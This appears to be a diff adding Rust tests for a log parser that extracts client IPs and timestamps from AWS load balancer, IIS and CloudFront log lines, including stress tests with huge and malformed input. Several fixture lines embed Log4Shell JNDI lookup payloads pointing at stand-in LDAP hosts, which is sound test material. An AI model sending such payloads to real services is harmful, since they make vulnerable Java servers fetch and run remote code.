+            r#"https 2021-12-10T10:00:00.123456Z app/my-lb/50dc6c495c0c9188 203.0.113.9:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1" "curl/7.46.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 "Root=1-58337281-1d84f3d73c47ec4e58577259" "www.example.com" "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012" 1 2021-12-10T09:59:59.999000Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-""#,
+            Layout::AwsLoadBalancer,
+            v4(203, 0, 113, 9),
+            Some("2021-12-10T10:00:00.123456Z"),
+        );
+        check(
+            r#"h2 2021-12-10T10:00:01Z app/my-lb/50dc6c495c0c9188 2001:db8::9:2817 - -1 -1 -1 503 - 0 0 "GET https://x:443/ HTTP/2.0" "-" - - - "-" "-" "-" - 2021-12-10T10:00:01Z "-" "-" "-" "-" "-" "-" "-""#,
+            Layout::AwsLoadBalancer,
+            Some(IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 9))),
+            Some("2021-12-10T10:00:01Z"),
+        );
+        // Classic: no type; it must not fall to syslog's ISO form.
+        check(
+            r#"2021-12-10T10:00:00.123456Z my-elb 203.0.113.12:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -"#,
+            Layout::AwsLoadBalancer,
+            v4(203, 0, 113, 12),
+            Some("2021-12-10T10:00:00.123456Z"),
+        );
+        // The wrong shape after the name.
+        for line in [
+            "https 2021-12-10T10:00:00Z app/x/1 nothost 10.0.0.1:80 0.1 0.1 0.1",
+            "https 2021-12-10T10:00:00Z app/x/1 203.0.113.1:1 10.0.0.1:80 fast",
+            "ws 2021-12-10T10:00:00Z",
+        ] {
+            assert_eq!(
+                line_context(line.as_bytes(), 2021),
+                LineContext::default(),
+                "{line}"
+            );
+        }
+    }
+
+    #[test]
+    fn iis_w3c() {
+        check(
+            "2021-12-10 10:00:00 10.0.0.5 GET /index.html q=${jndi:ldap://198.51.100.13/a} 443 - 203.0.113.7 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 15",
+            Layout::Iis,
+            v4(203, 0, 113, 7),
+            Some("2021-12-10T10:00:00Z"),
+        );
+        // IIS 6: `s-sitename` first; IPv6 client.
+        check(
+            "2021-12-10 10:00:01 W3SVC1 10.0.0.5 POST /api - 80 - 2001:db8::14 ${jndi:ldap://198.51.100.14/a} 500 0 0",
+            Layout::Iis,
+            Some(IpAddr::V6(Ipv6Addr::new(
+                0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x14,
+            ))),
+            Some("2021-12-10T10:00:01Z"),
+        );
+        // A long URI pushes the client past the header window.
+        let long = format!(
+            "2021-12-10 10:00:02 10.0.0.5 GET /{} - 443 - 203.0.113.15 UA - 404 0 2 1",
+            "a".repeat(3 * HEADER_SCAN)
+        );
+        check(
+            &long,
+            Layout::Iis,
+            v4(203, 0, 113, 15),
+            Some("2021-12-10T10:00:02Z"),
+        );
+        for line in [
+            "#Software: Microsoft Internet Information Services 10.0",
+            "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
+            "2021-12-10 10:00:00 10.0.0.5 get /",
+        ] {
+            assert_eq!(
+                line_context(line.as_bytes(), 2021),
+                LineContext::default(),
+                "{line}"
+            );
+        }
+    }
+
+    #[test]
+    fn cloudfront() {
+        check(
+            "2021-12-10\t10:00:00\tLHR62-C2\t2390\t203.0.113.16\tGET\td111111abcdef8.cloudfront.net\t/index.html\t200\t-\tcurl/7.68.0\tq=%24%7Bjndi:ldap://198.51.100.16/a%7D\t-\tHit\tSOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ==\td111111abcdef8.cloudfront.net\thttps\t23\t0.001\t-\tTLSv1.2\tECDHE-RSA-AES128-GCM-SHA256\tHit\tHTTP/2.0\t-\t-\t11040\t0.001\tHit\ttext/html\t78\t-\t-",
+            Layout::CloudFront,
+            v4(203, 0, 113, 16),
+            Some("2021-12-10T10:00:00Z"),
+        );
+        assert_eq!(
+            line_context(
+                b"2021-12-10\t10:00:00\tLHR62-C2\tmany\t203.0.113.16\tGET",
+                2021
+            ),
+            LineContext::default()
+        );
+    }
+
+    #[test]
     fn unknown_lines_are_empty() {
         for line in [
             "",
             "hello world",
             "java.lang.NullPointerException: null",
             "\tat com.example.App.main(App.java:10)",
-            "2021-12-10 12:00:00.123  INFO 1 --- [main] c.e.App : Started",
             "- - - [nope] x",
             "1.2.3.4 - - [10/Foo/2021:13:55:36 +0000] x",
             "<>Oct 11 22:14:15 h a: b",
@@ -1443,6 +2247,62 @@ mod tests {
     }
 
     #[test]
+    fn hostile_input_service_layouts() {
+        let big = vec![b'A'; 8 << 20];
+        for prefix in [
+            &b"2021-12-10 12:00:00,000 INFO "[..],
+            b"2021-12-10 12:00:00,000 [",
+            b"10-Dec-2021 10:00:00.123 INFO [",
+            b"17:46:40.080 ",
+            b"time=\"",
+            b"level=info msg=",
+            b"https 2021-12-10T10:00:00Z ",
+            b"2021-12-10T10:00:00Z my-elb ",
+            b"2021-12-10 10:00:00 10.0.0.5 GET ",
+            b"2021-12-10\t10:00:00\t",
+        ] {
+            let mut line = prefix.to_vec();
+            line.extend_from_slice(&big);
+            let _ = line_context(&line, 2021);
+        }
+        // Many candidate keys, separators, escapes and brackets: each costs
+        // a bounded look, so these stay linear.
+        for (prefix, unit) in [
+            (&b"2021-12-10 12:00:00,000 INFO "[..], &b" ip="[..]),
+            (b"2021-12-10 12:00:00,000 INFO ", b" ip=192.0.2.1"),
+            (b"2021-12-10 12:00:00,000 INFO ", b"=:"),
+            (b"2021-12-10 12:00:00,000 INFO ", b" \"remote_addr\": ["),
+            (
+                b"2021-12-10 12:00:00,000 INFO ",
+                b"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx:",
+            ),
+            (b"level=info ", b"a=\"\\\""),
+            (b"level=info ", b"ip=1 "),
+            (b"level=info msg=\"", b"\\\""),
+            (b"2021-12-10 10:00:00 10.0.0.5 GET ", b"a"),
+        ] {
+            let mut line = prefix.to_vec();
+            line.extend(unit.repeat((4 << 20) / unit.len()));
+            let _ = line_context(&line, 2021);
+        }
+        let mut many = b"2021-12-10 12:00:00,000 INFO ".to_vec();
+        many.extend(b" ip=192.0.2.1 remote_addr=".repeat(200_000));
+        assert_eq!(line_context(&many, 2021).source_ip, v4(192, 0, 2, 1));
+        // Out-of-range values.
+        for line in [
+            &b"2021-13-45 25:61:61,999 INFO x"[..],
+            b"99-Foo-2021 99:99:99.9 INFO x",
+            b"99:99:99.9 INFO x",
+            b"time=\"9999-12-31T23:59:59-23:59\" ts=-99999999999999999999 level=x",
+            b"https 9999-99-99T99:99:99Z a 1.2.3.4:99999 - -1",
+            b"2021-02-30 10:00:00 10.0.0.5 GET / - 443 - 1.2.3.4",
+            b"2021-02-30\t10:00:00\tX\t1\t1.2.3.4\tGET",
+        ] {
+            let _ = line_context(line, 2021);
+        }
+    }
+
+    #[test]
     fn every_truncation_of_known_lines_is_safe() {
         let lines = [
             r#"www.example.com:443 2001:db8::7 - - [10/Dec/2021:13:55:36 +0000] "GET / HTTP/2.0" 200 5 "-" "-""#,
@@ -1451,6 +2311,12 @@ mod tests {
             r#"{"@timestamp":"2021-12-10T12:00:00.123+01:00","source":{"ip":"192.0.2.1"},"log":"a"}"#,
             "<34>Oct 11 22:14:15 mymachine sshd[12]: x from 192.0.2.1 port 5",
             r#"<165>1 2003-08-24T05:14:15.000003-07:00 h p 8 - [a b="\"]"] m"#,
+            "2021-12-26T17:46:40.080+01:00  INFO 4242 --- [main] c.e.App : {\"clientIp\":\"[2001:db8::1]:5\"}",
+            "10-Dec-2021 10:00:01.5 SEVERE [exec-3] o.e.F rejected x-forwarded-for: 192.0.2.24, 10.0.0.1",
+            r#"time="2021-12-10T10:00:00Z" level=info client_ip=198.51.100.2 msg="a \"b\" \\""#,
+            "https 2021-12-10T10:00:00.123456Z app/my-lb/50dc 203.0.113.9:2817 10.0.0.1:80 0.086 0.048",
+            "2021-12-10 10:00:01 W3SVC1 10.0.0.5 POST /api - 80 - 2001:db8::14 UA 500 0 0",
+            "2021-12-10\t10:00:00\tLHR62-C2\t2390\t203.0.113.16\tGET\td1.cloudfront.net",
         ];
         for line in lines {
             for n in 0..=line.len() {
@@ -1472,6 +2338,12 @@ mod tests {
                 Just(b"[Fri Dec 10 12:00:00.1 2021] ".to_vec()),
                 Just(b"2021/12/10 12:00:00 [error] ".to_vec()),
                 Just(b"192.0.2.1 - - [10/Dec/2021:".to_vec()),
+                Just(b"2021-12-10 12:00:00,000 [main] INFO ".to_vec()),
+                Just(b"10-Dec-2021 10:00:00.123 ".to_vec()),
+                Just(b"level=info ip=".to_vec()),
+                Just(b"https 2021-12-10T10:00:00Z app/a/1 ".to_vec()),
+                Just(b"2021-12-10 10:00:00 10.0.0.5 GET ".to_vec()),
+                Just(b"2021-12-10\t10:00:00\t".to_vec()),
             ]
         }
 
@@ -1485,7 +2357,7 @@ mod tests {
             fn never_panics_after_a_layout_prefix(
                 prefix in prefixes(),
                 tail in proptest::collection::vec(
-                    prop_oneof![any::<u8>(), Just(b' '), Just(b'['), Just(b']'), Just(b':'), Just(b'"'), Just(b'1')],
+                    prop_oneof![any::<u8>(), Just(b' '), Just(b'['), Just(b']'), Just(b':'), Just(b'"'), Just(b'1'), Just(b'='), Just(b'\\'), Just(b'\t')],
                     0..300,
                 ),
                 year in any::<i16>(),
